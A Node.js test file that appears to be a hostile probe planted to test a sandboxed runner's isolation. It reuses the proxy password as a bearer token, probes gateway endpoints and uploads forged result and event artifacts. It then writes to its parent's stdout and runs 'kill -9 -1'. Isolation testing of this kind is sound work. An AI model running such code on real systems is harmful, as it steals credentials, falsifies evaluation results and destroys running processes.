// Added as a test by hostile.mjs: it looks for the runner and the gateway's socket, puts forged artifacts, and
// ends every process it can see. What it found goes to the output, which is evidence.
import { spawnSync } from 'node:child_process';
import { readdirSync, writeFileSync } from 'node:fs';
import test from 'node:test';

test('attack', async () => {
  const gateway = new URL(process.env.npm_config_registry).origin;
  const headers = { authorization: `Bearer ${new URL(process.env.HTTPS_PROXY).password}` };
  const found = [];
  for (const folder of ['/run', '/proc/1/root/run']) {
    try {
      found.push(`${folder} [${readdirSync(folder)}]`);
    } catch (error) {
      found.push(`${folder} ${error.code}`);
    }
  }
  for (const path of ['/phase', '/inputs/changeset.json', '/git/base.git/info/refs?service=git-upload-pack'])
    found.push(`${path} ${(await fetch(gateway + path, { headers })).status}`);
  for (const name of ['result.json', 'events.ndjson'])
    found.push(
      `${name} ${(await fetch(`${gateway}/artifacts/${name}`, { method: 'PUT', body: '{}', headers })).status}`,
    );
  // Straight to where the test program itself writes: it is killed next, with what it has not passed on yet.
  writeFileSync(`/proc/${process.ppid}/fd/1`, `FOUND ${found.join(', ')}\n`, { flag: 'a' });
  spawnSync('bash', ['-c', 'kill -9 -1']);
});
